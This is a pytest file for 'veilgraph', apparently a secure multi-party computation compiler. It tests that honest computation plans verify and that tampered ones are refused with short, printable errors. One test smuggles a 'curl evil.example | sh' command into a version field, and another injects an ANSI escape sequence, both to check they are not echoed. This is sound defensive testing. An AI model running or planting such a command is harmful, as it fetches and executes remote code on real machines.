"""A plan is held to its program and its suite: honest ones pass, and each lie is refused."""

from __future__ import annotations

import os
import random
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from onnx import TensorProto, helper
from small_plans_to_verify import SAMPLES, WAYS, bare, compiled, insert, plan_of, retold

import veilgraph
from veilgraph.ir.errors import SecurityAbort, UsageError
from veilgraph.ir.party import ops
from veilgraph.ir.party.node import Node
from veilgraph.ir.party.ops import PartyOp
from veilgraph.ir.party.program import Program
from veilgraph.ir.plan.tables import ROUND_BYTES, Layer, Phase
from veilgraph.passes.party.expand_protocols import Expanded
from veilgraph.passes.party.prune import prune
from veilgraph.plans import Plan
from veilgraph.verification import verified_plans
from veilgraph.verification.findings import Verified
from veilgraph.verification.verified_plans import recorded, require_verified
from veilgraph.verification.verify import verify

Change = Callable[[Plan], Plan]


@pytest.fixture(scope="module")
def plan() -> Plan:
    """Suite rep3: alice's input, bob's weights, alice receives; it has public constants."""
    return plan_of()


def refused(plan: Plan, match: str = "The plan is refused") -> SecurityAbort:
    with pytest.raises(SecurityAbort, match=match) as caught:
        verify(plan)
    assert caught.value.hint
    assert len(caught.value.message) < 400
    assert caught.value.message.isprintable()
    return caught.value


@pytest.mark.parametrize("way", WAYS)
def test_honest_plans_hold(way: str, tmp_path: Path) -> None:
    made = plan_of(way)
    made.save(tmp_path / "model.plan")
    found = verify(Plan.load(tmp_path / "model.plan"))
    manifest = made.manifest
    assert found.suite == manifest.suite
    outputs = {r.what.removeprefix("output "): set(r.to) for r in found.revealed if r.depends}
    assert outputs == {name: set(to) for name, to in manifest.receivers.items()}
    assert Verified.from_json(found.to_json()) == found
    assert manifest.ring_bits in found.rings
    assert set(found.rings) <= {layer.ring_bits for layer in made.layers} | {manifest.ring_bits}
    secrets = {secret.name: secret.owner for secret in found.secrets}
    public = {"weights": "public"}
    assert secrets == {n: o for n, o in manifest.owners.items() if {n: o} != public}


def test_what_is_revealed_is_computed(plan: Plan) -> None:
    found = verify(plan)
    output, constants = found.revealed
    assert (output.what, output.numbers, output.to) == ("output y", 3, ("alice",))
    assert output.depends == ("x", "weights")
    assert constants.numbers > 0
    assert constants.to == ("alice", "bob", "carol")
    assert [(s.name, s.owner, s.numbers) for s in found.secrets] == [
        ("x", "alice", 6),
        ("weights", "bob", 50),
    ]
    assert found.coalitions == (("alice",), ("bob",), ("carol",))


def test_an_input_that_is_an_output_too() -> None:
    """One name, of two tensors with owners of their own."""
    values = [helper.make_tensor_value_info(n, TensorProto.FLOAT, [2, 3]) for n in "xy"]
    graph = helper.make_graph([helper.make_node("Neg", ["x"], ["y"])], "m", values[:1], values)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
    made, _ = veilgraph.compile(model, owners={"x": "bob"})
    assert {r.what: r.to for r in verify(made).revealed} == {
        "output x": ("alice",), "output y": ("alice",),
    }  # fmt: skip
    (x,) = made.party("bob").inputs
    assert x.owner == "bob"


def test_what_two_receivers_of_one_name_learn_is_told_apart() -> None:
    """The first is given public zeros in place of the model's answer."""
    made = compiled(receivers={"y": ("alice", "carol")})

    def zeros(program: Program) -> None:
        y = next(n for n in program.nodes if n.op is ops.OUTPUT and n.party == 0)
        same = (y.shape, y.type, Phase.SETUP, y.layer)
        insert(program, Node(y.id, ops.CONST, 0, (), (("value", 0),), *same))
        y = next(n for n in program.nodes if n.op is ops.OUTPUT and n.party == 0)
        program.nodes[y.id] = replace(y, args=(y.id - 1,), phase=Phase.SETUP)
        every = [np.zeros(0, np.int64)] * len(program.nodes)
        program.nodes = prune(Expanded(program, every, [0] * len(every))).program.nodes

    told = {r.to: r.depends for r in verify(retold(made, zeros)).revealed if r.what == "output y"}
    assert told == {("alice",): (), ("carol",): ("x", "weights")}


def test_colluding_parties_are_those_of_the_suite() -> None:
    found = verify(plan_of("additive, three parties"))
    pairs = {("alice", "bob"), ("alice", "carol"), ("bob", "carol")}
    assert {*found.coalitions} == {("alice",), ("bob",), ("carol",), *pairs, ("dave",)}


# Lies


def test_tables_without_the_mask_of_an_input(plan: Plan) -> None:
    """The text and the manifest are honest, and what runs is not."""
    leaky = replace(retold(plan, bare), ir=plan.ir, layers=plan.layers)
    refused(leaky, r"alice's table steps is not its program's, first in row \d+")


def test_a_program_without_the_mask_of_an_input(plan: Plan) -> None:
    refused(retold(plan, bare), r"message %\d+ of layer 'x' is not hidden from bob")


def _manifest(**fields: Any) -> Change:
    return lambda plan: replace(plan, manifest=replace(plan.manifest, **fields))


def _program(change: Callable[[Program], None]) -> Change:
    return lambda plan: retold(plan, change)


def _text(old: str, new: str) -> Change:
    def change(plan: Plan) -> Plan:
        text = plan.ir["party"]
        assert old in text
        return replace(plan, ir={**plan.ir, "party": text.replace(old, new, 1)})

    return change


def _party(name: str, **fields: Any) -> Change:
    def change(plan: Plan) -> Plan:
        program = replace(plan.programs[name], **fields)
        return replace(plan, programs={**plan.programs, name: program})

    return change


def _tensor(party: str, kind: str, **fields: Any) -> Change:
    def change(plan: Plan) -> Plan:
        first, *rest = getattr(plan.programs[party], kind)
        return _party(party, **{kind: (replace(first, **fields), *rest)})(plan)

    return change


def _layer(**fields: Any) -> Change:
    return lambda plan: replace(
        plan, layers=(*plan.layers[:3], replace(plan.layers[3], **fields), *plan.layers[4:])
    )


def _tell_bob(program: Program) -> None:
    """Alice's input goes to bob as an output."""
    x = next(n for n in program.nodes if n.op is ops.INPUT)
    sent = Node(
        len(program.nodes), ops.SEND, 1, (x.id,), (("declared", "reveal"), ("number", 9999)),
        x.shape, x.type, x.phase, 0,
    )  # fmt: skip
    program.nodes.append(sent)
    told = (("frac_bits", 0), ("name", "y"))
    program.nodes.append(replace(sent, id=sent.id + 1, op=ops.OUTPUT, args=(sent.id,), attrs=told))


def _reveal_only(program: Program) -> None:
    """The masked input is declared as part of an output, and has no mask."""
    bare(program)
    sent = next(n for n in program.nodes if n.op is ops.SEND and n.phase == Phase.ONLINE)
    attrs = (("declared", "reveal"), sent.attrs[1])
    program.nodes[sent.id] = replace(sent, attrs=attrs)


def _dead(program: Program) -> None:
    x = next(n for n in program.nodes if n.op is ops.INPUT)
    program.nodes.append(replace(x, id=len(program.nodes), op=ops.NEG, args=(x.id,), attrs=()))


def _of(op: PartyOp, **fields: Any) -> Callable[[Program], None]:
    def change(program: Program) -> None:
        node = next(n for n in program.nodes if n.op is op)
        program.nodes[node.id] = replace(node, **fields)

    return change


def _given_twice(program: Program) -> None:
    x = next(n for n in program.nodes if n.op is ops.INPUT)
    insert(program, replace(x, id=0, party=1))


LIES: dict[str, tuple[Change, str]] = {
    "an unknown suite": (_manifest(suite="rep4"), "knows no suite 'rep4'"),
    "another suite": (_manifest(suite="additive"), "needs a dealer"),
    "another security": (_manifest(security="all may collude"), "promises other security"),
    "a dealer": (
        _manifest(roles={"alice": "computing", "bob": "computing", "carol": "dealer"}),
        "Suite rep3 has 3 parties",
    ),
    "another receiver": (_manifest(receivers={"y": ("bob",)}), "output 'y' to"),
    "one receiver more": (_manifest(receivers={"y": ("alice", "bob")}), "its manifest alone does"),
    "no receiver": (_manifest(receivers={}), "output 'y' to alice .its manifest does not"),
    "a receiver who is no party": (_manifest(receivers={"y": ("eve",)}), "who is no party"),
    "another owner": (_manifest(owners={"x": "carol", "weights": "bob"}), "input 'x' from alice"),
    "another weights' owner": (
        _manifest(owners={"x": "alice", "weights": "carol"}),
        "takes weight '.*' from bob",
    ),
    "weights of no party": (
        _manifest(owners={"x": "alice", "weights": "shared"}),
        "takes weight '.*' from bob",
    ),
    "public weights": (
        _manifest(owners={"x": "alice", "weights": "public"}),
        "takes weight '.*' from bob",
    ),
    "other parties": (_text("parties alice bob", "parties bob alice"), "for other parties"),
    "no text": (lambda plan: replace(plan, ir={}), "carries no text"),
    "an input told to bob": (_program(_tell_bob), r"output 'y' to bob \(its manifest does not\)"),
    "an input declared revealed": (_program(_reveal_only), "not hidden from bob"),
    "an input of two parties": (_program(_given_twice), "input 'x' from bob"),
    "a node that nobody needs": (_program(_dead), "nodes that no output needs"),
    "a draw of others": (_text("draw 0 alice carol", "draw 0 alice bob"), "key that it does not"),
    "an output at another scale": (_tensor("alice", "outputs", frac_bits=3), "at another scale"),
    "an output of another owner": (_tensor("alice", "outputs", owner="bob"), "is not what its"),
    "an input of another shape": (_tensor("alice", "inputs", shape=(6, 1)), "is not what its"),
    "an input of another ring": (_tensor("alice", "inputs", ring_bits=33), "is not what its"),
    "an input elsewhere": (_tensor("alice", "inputs", offset=64), "alice's inputs are not"),
    "a weight elsewhere": (_tensor("bob", "weights", offset=4096), "bob's weights are not|outside"),
    "no input": (_party("alice", inputs=()), "has no place for input 'x'"),
    "a larger memory": (_party("carol", arena_bytes=1 << 20), "carol's arena bytes"),
    "another key": (_party("alice", keys=(("alice",), ("alice", "bob"))), "alice's keys are not"),
    "another time of rounds": (
        lambda plan: replace(plan, manifest=replace(plan.manifest, options={ROUND_BYTES: 1})),
        "table steps is not its program's",
    ),
    "a layer's name": (_layer(name="other"), "its layers are not"),
    "a layer's bits": (_layer(online_bits=1), "layer 3 costs"),
    "a layer's offline bits": (_layer(offline_bits=1), "layer 3 costs"),
    "a layer's rounds": (_layer(rounds=99), "layer 3 costs"),
    "a layer's products": (_layer(multiply_adds=99), "layer 3 costs"),
    "one layer more": (
        lambda plan: replace(plan, layers=(*plan.layers, Layer("more", "relu"))),
        "its layers are not",
    ),
    "more constants": (
        lambda plan: replace(plan, constants=plan.constants + bytes(8)),
        "its constants are",
    ),
    "a constant of another ring": (
        _text("= constant {number = 0} : words<64>", "= constant {number = 0} : words<63>"),
        "changes a type",
    ),
}  # fmt: skip


@pytest.mark.parametrize("lie", LIES)
def test_lies(lie: str, plan: Plan) -> None:
    change, sentence = LIES[lie]
    refused(change(plan), sentence)


@pytest.mark.parametrize("party", ["alice", "bob", "carol"])
@pytest.mark.parametrize("table", ["steps", "buffers", "messages", "params", "kept"])
def test_a_changed_table(table: str, party: str, plan: Plan) -> None:
    rows = getattr(plan.programs[party], table)
    if not len(rows):
        pytest.skip(f"{party} keeps nothing")
    for changed in (rows[:-1], np.concatenate([rows, rows[-1:]]), _flipped(rows)):
        refused(_party(party, **{table: changed})(plan))


def _flipped(rows: Any) -> Any:
    content = bytearray(rows.tobytes())
    content[len(content) // 2] ^= 1
    return np.frombuffer(bytes(content), rows.dtype)


def test_words_of_the_author_are_printed_harmlessly(plan: Plan) -> None:
    _text('name = "x"', 'name = "\\u001b[31m"')
    hostile = _text('input {name = "x"}', 'input {name = "\\u001b[31mred"}')(plan)
    assert "\x1b" not in refused(hostile).message


def test_more_pieces_than_messages_have(plan: Plan) -> None:
    """A text may say a terabyte: no table of its pieces is made."""
    huge = str(1 << 36)
    text = plan.ir["party"].replace("[1, 6]", f"[{huge}]").replace("[1, 5]", f"[{huge}]")
    refused(replace(plan, ir={**plan.ir, "party": text}))


def test_more_draws_and_nodes_than_a_host_checks(
    plan: Plan, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("veilgraph.passes.party.verify_masking.MOST_WORDS", 10)
    refused(plan, "more nodes and draws than a host checks")


@settings(max_examples=80)
@given(st.randoms(use_true_random=False))
def test_changed_texts(plan: Plan, choices: random.Random) -> None:
    """Whatever the text says: refused in a sentence, unless it says the same.

    The layer that a node within a fused step is counted to decides nothing, and stands in no table.
    """
    lines = plan.ir["party"].splitlines()
    for _ in range(choices.randint(1, 3)):
        _mutate(lines, choices)
    text = "\n".join(lines) + "\n"
    changed = replace(plan, ir={**plan.ir, "party": text})
    assert not _holds(changed) or _meant(lines) == _meant(plan.ir["party"].splitlines())


def _meant(lines: list[str]) -> list[str]:
    """The lines, those of nodes without the number at their end, which is the node's layer."""
    return sorted(re.sub(r"^(%.*) \d+$", r"\1", line) for line in lines)


def _holds(plan: Plan) -> bool:
    try:
        verify(plan)
    except SecurityAbort as error:
        return not (error.message.isprintable() and len(error.message) < 400)
    return True


def _mutate(lines: list[str], choices: random.Random) -> None:
    at, other = choices.randrange(len(lines)), choices.randrange(len(lines))
    line = lines[at]
    match choices.randrange(6):
        case 0:
            del lines[at]
        case 1:
            lines[at], lines[other] = lines[other], lines[at]
        case 2:
            lines.insert(at, lines[other])
        case 3:
            spot = choices.randrange(len(line) + 1)
            junk = choices.choice(["9" * 12, "%", '"', "{", "}", "[", "-1", ", ", "\u2028", "@bob"])
            lines[at] = line[:spot] + junk + line[spot:]
        case 4:
            words = line.split(" ")
            words[choices.randrange(len(words))] = choices.choice(lines[other].split(" "))
            lines[at] = " ".join(words)
        case _:
            digits = [i for i, c in enumerate(line) if c.isdigit()]
            if digits:
                spot = choices.choice(digits)
                lines[at] = line[:spot] + str(choices.randrange(10)) + line[spot + 1 :]


def test_a_constant_beyond_its_ring() -> None:
    made = compiled(owners={"weights": "public"}, ring=24, calibrate=SAMPLES)
    assert "words<24>" in made.ir["party"]
    refused(replace(made, constants=b"\xff" * len(made.constants)), "constant 0 is not of its ring")


# Versions


def test_a_plan_of_another_lowering_names_the_version_to_install(plan: Plan) -> None:
    other = _manifest(lowering=99, veilgraph_version="12.3.dev4")(plan)
    error = refused(other, "is of lowering 99, and this host verifies lowering")
    assert error.exit_code == 6
    assert "Install veilgraph 12.3.dev4" in error.hint


def test_a_false_version_is_not_repeated(plan: Plan) -> None:
    other = _manifest(lowering=0, veilgraph_version="1; curl evil.example | sh")(plan)
    assert "evil" not in refused(other, "is of lowering 0").hint


# Records


def test_a_plan_is_verified_once(
    plan: Plan, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    state, calls = tmp_path / "state", []

    def counted(each: Plan) -> Verified:
        calls.append(each.digest)
        return verify(each)

    monkeypatch.setattr("veilgraph.verification.verify.verify", counted)
    for _ in range(3):
        assert require_verified(plan, state) == verify(plan)
    assert calls == [plan.digest]
    (file,) = (state / "verified-plans").iterdir()
    assert file.name == plan.digest
    assert os.stat(file).st_mode & 0o077 == 0
    assert os.stat(state).st_mode & 0o077 == 0
    require_verified(_manifest(encoding="other")(plan), state)
    assert len(calls) == 2
    monkeypatch.setattr(verified_plans, "version", lambda name: "another")
    require_verified(plan, state)
    assert len(calls) == 3


def test_what_is_refused_is_not_recorded(plan: Plan, tmp_path: Path) -> None:
    for _ in range(2):
        with pytest.raises(SecurityAbort):
            require_verified(retold(plan, bare), tmp_path)
    assert recorded(retold(plan, bare), tmp_path) is None


@pytest.mark.parametrize(
    "change",
    [
        lambda text: "",
        lambda text: "lowering 0",
        lambda text: "\0" * 99,
        lambda text: text.partition("\n")[0] + "\n",
        lambda text: text[: len(text) // 2],
        lambda text: text.partition("\n")[0] + "\n[]",
        lambda text: text.replace('"kind"', '"sort"'),
        lambda text: text.replace('"rings": [', '"rings": 5, "others": ['),
    ],
)
def test_a_record_that_says_something_else(
    change: Callable[[str], str], plan: Plan, tmp_path: Path
) -> None:
    require_verified(plan, tmp_path)
    file = tmp_path / "verified-plans" / plan.digest
    assert change(file.read_text()) != file.read_text()
    file.write_text(change(file.read_text()))
    assert recorded(plan, tmp_path) is None


def test_a_folder_that_cannot_be_used(plan: Plan, tmp_path: Path) -> None:
    (tmp_path / "state").write_text("")
    with pytest.raises(UsageError, match="can't be used"):
        require_verified(plan, tmp_path / "state")
